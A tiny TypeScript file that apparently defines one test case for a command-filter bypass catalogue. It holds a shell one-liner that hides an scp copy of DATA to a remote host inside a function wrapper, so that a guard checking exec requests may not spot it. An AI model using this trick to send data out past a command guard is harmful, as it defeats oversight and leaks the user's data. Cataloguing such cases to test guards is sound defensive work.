import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: in a function',
  source: 'commands of one exec request',
  words: ['f() { scp "$@"; }; f DATA host:'],
};
